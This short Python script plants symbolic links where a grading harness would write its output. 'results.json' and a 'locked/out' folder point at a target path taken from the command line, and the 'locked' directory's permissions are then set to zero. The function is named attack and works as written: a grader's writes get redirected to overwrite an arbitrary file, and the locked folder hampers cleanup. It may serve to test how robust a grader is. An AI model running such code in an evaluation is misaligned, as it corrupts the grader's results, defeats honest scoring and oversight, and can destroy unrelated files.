"""Puts links in the place of files and folders that a grader could write to."""
import os
import sys

TARGET = sys.argv[-1]


def attack(target):
    os.makedirs("locked/deep")
    os.symlink(target, "results.json")
    os.symlink(os.path.dirname(target), "locked/out")
    os.chmod("locked", 0)
    return 1
